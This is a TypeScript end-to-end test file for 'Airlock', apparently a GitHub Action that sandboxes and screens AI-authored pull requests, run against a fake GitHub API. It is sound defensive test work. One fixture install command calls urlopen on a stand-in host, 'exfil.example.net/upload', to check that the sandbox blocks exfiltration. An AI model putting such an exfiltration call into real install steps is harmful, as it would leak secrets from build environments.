// End to end: dist/index.js as the runner runs it, against the fake GitHub API and fixture
// repositories, with the real gVisor sandbox (run as root; `npm run build` first).
import { existsSync } from 'node:fs';
import { readFile, rm } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FakeGitHub } from '../fake-github/fake-github-server.js';
import { startFakeGitHub } from '../fake-github/fake-github-server.js';
import { pullRequestEvent } from '../fake-github/pull-request-event.js';
import type { FixtureRepo } from './fixture-repo.js';
import { fixtureRepo } from './fixture-repo.js';
import { HOSTILE_PATH, scenarios } from './scenarios.js';
import { ACTION_ENTRY, runAction } from './run-action.js';
import { tempDir } from '../support/temp-dirs.js';

const WRITE = 'ghs-write-token';
const READ = 'ghs-read-token';
const BOT = 'github-actions[bot]';
const TESTS = 'python3 -m pytest -q';

let github: FakeGitHub;
const repos: Record<string, FixtureRepo> = {};

beforeAll(async () => {
  if (!existsSync(ACTION_ENTRY))
    throw new Error('dist/index.js is missing: run `npm run build` first');
  github = await startFakeGitHub({
    tokens: {
      [WRITE]: { login: BOT, app: true, write: true },
      [READ]: { login: BOT, app: true, write: false },
    },
  });
  for (const [name, commits] of Object.entries(scenarios)) repos[name] = await fixtureRepo(commits);
});
afterAll(async () => {
  await github.close();
  for (const repo of Object.values(repos)) await rm(repo.dir, { recursive: true, force: true });
});

async function action(
  scenario: string,
  options: { number: number; token?: string; fork?: boolean; inputs?: Record<string, string> },
) {
  const repo = repos[scenario];
  if (!repo) throw new Error(`no fixture ${scenario}`);
  const event = pullRequestEvent({
    number: options.number,
    baseSha: repo.baseSha,
    headSha: repo.headSha,
    fork: options.fork ?? false,
  });
  const run = await runAction({
    workspace: repo.dir,
    apiUrl: github.url,
    event,
    sha: repo.headSha,
    inputs: { 'github-token': options.token ?? WRITE, 'test-command': TESTS, ...options.inputs },
  });
  const checks = github.checkRuns.filter((c) => c.head_sha === repo.headSha);
  const comments = github.comments.get(options.number) ?? [];
  return { run, repo, checks, comments };
}

// Timings, resource use and the gVisor build differ per machine; everything else is stable.
function normalise(body: string): string {
  return body
    .replace(
      / in [\d.]+ s · CPU [^·]+· peak memory [^·]+· gVisor [^\n]+/g,
      ' in <t> s · CPU <cpu> · peak memory <mem> · gVisor <version>',
    )
    .replace(/ in \d+\.\d+s\b/g, ' in <t>s');
}

// Inside a fence longer than any backtick run, text is shown, never rendered.
const withoutFences = (body: string) => body.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '');

function expectInert(markdown: string): void {
  const body = withoutFences(markdown);
  expect(body).not.toMatch(/<img/i);
  expect(body.replace(/^<!-- airlock:sticky-comment -->/, '')).not.toContain('<!--');
  for (const match of body.matchAll(/@admin/g))
    expect(body.slice(Math.max(0, match.index - 6), match.index)).toBe('<code>');
  for (const match of body.matchAll(/#1\b/g))
    expect(body.slice(0, match.index)).toMatch(/<code>[^<]*$/);
}

describe('the action (dist/index.js) on a pull request', () => {
  it('blocks a malicious AI-authored commit and reports it everywhere', async () => {
    const { run, checks, comments, repo } = await action('malicious', { number: 11 });
    expect(run.outputs['verdict']).toBe('blocked');
    expect(run.exitCode).not.toBe(0);
    expect(checks).toHaveLength(1);
    expect(checks[0]).toMatchObject({
      name: 'Airlock',
      status: 'completed',
      conclusion: 'failure',
    });
    const annotations = checks[0]?.annotations as Array<{ path: string; title: string }>;
    expect(annotations.map((a) => a.path)).toContain('conftest.py');
    expect(annotations.map((a) => a.path)).toContain(HOSTILE_PATH);
    expect(comments).toHaveLength(1);
    const body = comments[0]?.body ?? '';
    expect(body).toContain('net\\-exfiltrate\\-secret');
    expectInert(body);
    await expect(normalise(body)).toMatchFileSnapshot('__golden__/comment-blocked.md');
    const report = JSON.parse(await readFile(run.outputs['report-json'] ?? '', 'utf8')) as {
      model: { headSha: string };
    };
    expect(report.model.headSha).toBe(repo.headSha);
    expect(run.summary).toContain('Airlock: blocked');
    expect(run.stdout).toMatch(/::stop-commands::[0-9a-f-]{36}/);
  });

  it('passes a clean AI-authored commit whose tests pass', async () => {
    const { run, checks, comments } = await action('clean', { number: 12 });
    expect(run.outputs).toMatchObject({
      verdict: 'pass',
      findings: '0',
      'tests-passed': '3',
      'tests-failed': '0',
    });
    expect(run.exitCode).toBe(0);
    expect(checks[0]).toMatchObject({ status: 'completed', conclusion: 'success' });
    expect(comments[0]?.body).toContain('Airlock: pass');
  });

  it('fails on failing tests and names them, hostile names inert', async () => {
    const { run, checks, comments } = await action('failing', { number: 13 });
    expect(run.outputs['verdict']).toBe('fail');
    expect(run.outputs['tests-failed']).toBe('2');
    expect(checks[0]).toMatchObject({ conclusion: 'failure' });
    const titles = (checks[0]?.annotations as Array<{ title: string }>).map((a) => a.title);
    expect(titles.some((t) => t.includes('test_add'))).toBe(true);
    const body = comments[0]?.body ?? '';
    expect(body).toContain('test\\_add');
    expectInert(body);
  });

  it('installs first (base manifests), runs the tests on what the install wrote, and reports the manifest change', async () => {
    const { run, checks, comments } = await action('dependencies', {
      number: 21,
      inputs: {
        // requirements.txt is new in the PR, so with install-from: base the install never sees it.
        'install-command':
          'test ! -e requirements.txt && mkdir -p build && echo \'{"ok": true}\' > build/installed.json',
        'install-from': 'base',
      },
    });
    expect(run.outputs, run.stdout.slice(-4000)).toMatchObject({
      verdict: 'pass',
      findings: '1',
      'tests-passed': '3',
      'tests-failed': '0',
    });
    expect(checks[0]).toMatchObject({ conclusion: 'success' });
    const body = comments[0]?.body ?? '';
    expect(body).toContain('requirements.txt');
    expect(body).toMatch(/dependency\\?-manifest\\?-changed/);
    expect(body).toMatch(/[Ii]nstall/);
  });

  it('blocks a PR whose install reaches for a host off the registry allowlist', async () => {
    const { run, checks, comments } = await action('dependencies', {
      number: 22,
      inputs: {
        'install-command': [
          'python3 - <<"EOF" || true',
          'import os, urllib.request',
          'try:',
          '    urllib.request.urlopen("https://exfil.example.net/upload", timeout=10)',
          'except Exception as error:',
          '    print("refused:", error)',
          'EOF',
          'mkdir -p build && echo \'{"ok": true}\' > build/installed.json',
        ].join('\n'),
      },
    });
    expect(run.outputs['verdict'], run.stdout.slice(-4000)).toBe('blocked');
    // The same head commit as the test above: this run's check run is the newest.
    expect(checks.at(-1)).toMatchObject({ conclusion: 'failure' });
    const body = comments[0]?.body ?? '';
    expect(body).toContain('exfil.example.net');
  });

  it('gives a neutral check when no commit is AI-authored, without running tests', async () => {
    const { run, checks, comments } = await action('human', { number: 14 });
    expect(run.outputs).toMatchObject({ verdict: 'neutral', 'tests-passed': '0' });
    expect(run.exitCode).toBe(0);
    expect(checks[0]).toMatchObject({ conclusion: 'neutral' });
    expect(comments[0]?.body).toContain('No AI-authored change');
  });

  it('counts the codex label the API lists though the opened event lacked it', async () => {
    github.labels.set(23, ['codex']);
    const { run, checks } = await action('human', { number: 23, inputs: { 'test-command': '' } });
    expect(run.outputs['verdict']).not.toBe('neutral');
    // The human scenario's head also carries the neutral check of an earlier test: take the latest.
    expect(checks.at(-1)?.output.text).toContain('Agents: codex');
    expect(checks.at(-1)?.output.text).toContain('label &quot;codex&quot;');
    expect(
      github.requests.some(
        (r) => r.path.startsWith('/repos/') && r.path.includes('/issues/23/labels'),
      ),
    ).toBe(true);
  });

  it('falls back to the job summary for a fork PR with a read-only token, saying why', async () => {
    const { run, comments } = await action('clean', { number: 15, token: READ, fork: true });
    expect(run.outputs['verdict']).toBe('pass');
    expect(comments).toHaveLength(0);
    expect(github.requests.filter((r) => r.token === READ && r.method !== 'GET')).toHaveLength(0);
    expect(run.summary).toContain('comes from a fork');
  });

  it('falls back to the job summary when the token turns out read-only', async () => {
    const { run } = await action('human', { number: 16, token: READ });
    expect(run.outputs['verdict']).toBe('neutral');
    expect(run.summary).toContain('job summary only');
  });

  it('updates its own sticky comment instead of adding another, ignoring planted markers', async () => {
    github.addComment(17, 'mallory', '<!-- airlock:sticky-comment -->\n## ✅ Airlock: pass');
    await action('clean', { number: 17 });
    const second = await action('clean', { number: 17 });
    const ours = second.comments.filter((c) => c.user.login === BOT);
    expect(ours).toHaveLength(1);
    expect(second.comments).toHaveLength(2);
    expect(second.comments[0]?.body).toBe('<!-- airlock:sticky-comment -->\n## ✅ Airlock: pass');
    const patched = github.requests.filter(
      (r) => r.method === 'PATCH' && r.path.includes('/issues/comments/'),
    );
    expect(patched).toHaveLength(1);
  });

  it('refuses a checkout with persisted credentials unless allowed', async () => {
    const repo = repos['human'];
    if (!repo) throw new Error('no fixture');
    const { execa } = await import('execa');
    await execa(
      'git',
      ['config', 'http.https://github.com/.extraheader', 'AUTHORIZATION: basic eA=='],
      { cwd: repo.dir },
    );
    try {
      const refused = await action('human', { number: 18 });
      expect(refused.run.exitCode).not.toBe(0);
      expect(refused.run.stdout).toContain('persist-credentials: false');
      const allowed = await action('human', {
        number: 18,
        inputs: { 'allow-persisted-credentials': 'true' },
      });
      expect(allowed.run.outputs['verdict']).toBe('neutral');
    } finally {
      await execa('git', ['config', '--unset', 'http.https://github.com/.extraheader'], {
        cwd: repo.dir,
      });
    }
  });

  it('analyzes a fork PR without writing, then publishes the artifact from a workflow_run job', async () => {
    const analyzed = await action('malicious', {
      number: 19,
      token: READ,
      fork: true,
      inputs: { mode: 'analyze' },
    });
    expect(analyzed.run.outputs['verdict']).toBe('blocked');
    expect(analyzed.comments).toHaveLength(0);
    const repo = analyzed.repo;
    const { mkdir, copyFile } = await import('node:fs/promises');
    const { join } = await import('node:path');
    const reportJob = tempDir('e2e-report');
    await mkdir(join(reportJob, 'airlock-results'));
    await copyFile(
      analyzed.run.outputs['report-json'] ?? '',
      join(reportJob, 'airlock-results', 'airlock-report.json'),
    );
    const before = github.checkRuns.length;
    const published = await runAction({
      workspace: reportJob,
      apiUrl: github.url,
      eventName: 'workflow_run',
      event: { workflow_run: { head_sha: repo.headSha, pull_requests: [] } },
      sha: repo.headSha,
      inputs: { 'github-token': WRITE, mode: 'report' },
    });
    expect(published.outputs['verdict']).toBe('blocked');
    expect(github.checkRuns.slice(before)).toMatchObject([
      { head_sha: repo.headSha, conclusion: 'failure' },
    ]);
    expect(github.comments.get(19)?.[0]?.body).toContain('untrusted data');
  });
});
